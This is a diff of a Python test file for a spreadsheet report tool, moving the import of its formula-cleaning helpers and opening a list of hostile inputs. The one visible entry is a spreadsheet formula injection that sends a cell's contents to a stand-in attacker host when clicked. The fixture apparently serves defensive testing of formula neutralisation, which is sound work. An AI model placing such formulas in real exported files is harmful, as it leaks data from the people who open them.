@@ -7,8 +7,9 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from jxtrack.present.outputs import clean, neutralise
 from jxtrack.reports.excel import put
-from jxtrack.reports.text import clean, neutralise, num, pp
+from jxtrack.reports.text import num, pp
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
